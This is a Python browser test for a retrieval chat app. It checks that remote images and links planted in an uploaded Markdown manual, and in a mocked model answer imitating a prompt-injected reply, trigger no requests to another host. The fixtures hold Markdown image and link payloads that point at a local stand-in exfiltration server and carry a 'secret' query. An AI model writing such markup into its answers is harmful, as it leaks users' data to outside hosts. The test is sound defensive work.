"""No exfiltration channel: the browser loads nothing from another host, whatever a document says.

A Markdown document carries remote images and links in its H1 (its title), in its body, and the
mocked model answer carries one too (as a prompt injection would make a model write). Headless
Chromium then uploads it, asks a question, opens the citation, the Inspector, the Corpus with the
document selected, and a Corpus search for the image syntax. Playwright records every request the
page makes; a small HTTP server on 127.0.0.2 (another loopback host) records every request it gets.
Both must show zero requests to anything but the app.
"""

from __future__ import annotations

import http.server
import threading
from collections.abc import Iterator
from pathlib import Path
from urllib.parse import urlsplit

import pytest
from test_browser import browser_page, open_page, serve_app, wait_idle  # noqa: F401

pytestmark = pytest.mark.browser

EXFIL_HOST = "127.0.0.2"


class _Recorder(http.server.BaseHTTPRequestHandler):
    hits: list[str] = []

    def do_GET(self) -> None:  # noqa: N802 - the stdlib's name
        _Recorder.hits.append(self.path)
        self.send_response(200)
        self.send_header("Content-Type", "image/png")
        self.end_headers()

    def log_message(self, *args: object) -> None:
        pass


@pytest.fixture(scope="module")
def exfil_server() -> Iterator[str]:
    """An HTTP server on 127.0.0.2 that records the path of every request; yields its base URL."""
    httpd = http.server.ThreadingHTTPServer((EXFIL_HOST, 0), _Recorder)
    thread = threading.Thread(target=httpd.serve_forever, daemon=True)
    thread.start()
    try:
        yield f"http://{EXFIL_HOST}:{httpd.server_address[1]}"
    finally:
        httpd.shutdown()


@pytest.fixture(scope="module")
def server(tmp_path_factory: pytest.TempPathFactory, exfil_server: str) -> Iterator[str]:
    """The app, its mocked model answering with a remote image and a link (prompt injection)."""
    mock = (
        f"The warranty lasts two years [1]. ![a]({exfil_server}/answer.png?q=secret) "
        f"[more]({exfil_server}/answer-link) <{exfil_server}/autolink>"
    )
    yield from serve_app(tmp_path_factory, {"RAG_LLM_MOCK_RESPONSE": mock})


def hostile_markdown(base: str) -> bytes:
    """A Markdown manual whose title, body and reference definitions point at ``base``."""
    return (
        f"# Warranty ![t]({base}/title.png)\n\n"
        f"The warranty lasts two years from the date of purchase. ![b]({base}/body.png?q=secret)\n\n"
        f"See [the terms]({base}/terms) and ![ref][pic] for details.\n\n"
        f"[pic]: {base}/reference.png\n"
    ).encode()


def test_no_request_leaves_for_another_host(
    server: str,
    exfil_server: str,
    browser_page,  # noqa: F811 - the imported fixture
    tmp_path: Path,
) -> None:
    page = browser_page
    requests: list[str] = []
    page.on("request", lambda request: requests.append(request.url))
    try:
        walk_every_page(page, server, exfil_server, tmp_path)
    except BaseException:
        page.screenshot(path=str(tmp_path / "failure.png"))
        print(f"screenshot of the failure: {tmp_path / 'failure.png'}")
        raise
    app = urlsplit(server).netloc
    elsewhere = [url for url in requests if urlsplit(url).scheme in ("http", "https", "ws", "wss")]
    elsewhere = [url for url in elsewhere if urlsplit(url).netloc != app]
    assert elsewhere == [], elsewhere
    assert _Recorder.hits == []
    assert len(requests) > 10  # the recorder saw the app's own traffic: it was listening


def walk_every_page(page, server: str, base: str, shots: Path) -> None:
    """Upload, ask, open the citation, Inspector, Corpus (selected row) and a Corpus search.

    Screenshots of the neutralised Chat and Corpus go to ``shots``.
    """
    from playwright.sync_api import expect

    page.goto(server)
    open_page(page, "Upload")
    page.locator('[data-testid="stFileUploader"] input[type="file"]').set_input_files(
        files=[{"name": "manual.md", "mimeType": "text/markdown", "buffer": hostile_markdown(base)}]
    )
    wait_idle(page)
    page.get_by_text("Preview the chunks of a file").click()  # previews run on request
    page.get_by_role("button", name="Show chunks").click()
    wait_idle(page)
    expect(page.get_by_text("the first 20 are shown")).to_be_visible()
    page.get_by_role("button", name="Ingest 1 file(s) into default").click()
    # Queued (the default): the app's worker ingests it while the jobs panel, also walked here, follows it.
    expect(page.get_by_text("1 of 1 file done")).to_be_visible(timeout=120_000)
    wait_idle(page)

    open_page(page, "Chat")
    page.locator('[data-testid="stChatInputTextArea"]').fill("How long is the warranty?")
    page.keyboard.press("Enter")
    assistant = page.locator('[data-testid="stChatMessage"]').nth(1)
    expect(assistant).to_contain_text("two years", timeout=60_000)
    wait_idle(page)
    # The answer's image and links are shown as the text they are.
    expect(assistant).to_contain_text("![a](")
    assistant.locator('[data-testid="stPopover"] button').first.click()
    expect(page.locator('[data-testid="stPopoverBody"]')).to_contain_text("Warranty ![t](")
    page.screenshot(path=str(shots / "chat-neutralised.png"))
    page.keyboard.press("Escape")

    assistant.get_by_role("button", name="Inspect").click()
    wait_idle(page)
    expect(page.get_by_role("heading", name="Stored answer")).to_be_visible()

    open_page(page, "Corpus")
    expect(page.get_by_text("1 document in")).to_be_visible()
    grid = page.locator('[data-testid="stDataFrame"]').first.bounding_box()
    page.mouse.click(grid["x"] + 15, grid["y"] + 35 + 17)  # the first row's selection checkbox
    expect(page.get_by_role("heading", name="Warranty ![t](")).to_be_visible()
    wait_idle(page)
    page.screenshot(path=str(shots / "corpus-neutralised.png"))
    search = page.get_by_placeholder("Type to filter…")
    search.fill(f"![s]({base}/search.png)")
    search.press("Enter")
    wait_idle(page)
    expect(page.get_by_text("matches")).to_be_visible()
    page.wait_for_timeout(1000)  # give any image a chance to load
    print(f"screenshots: {shots}")
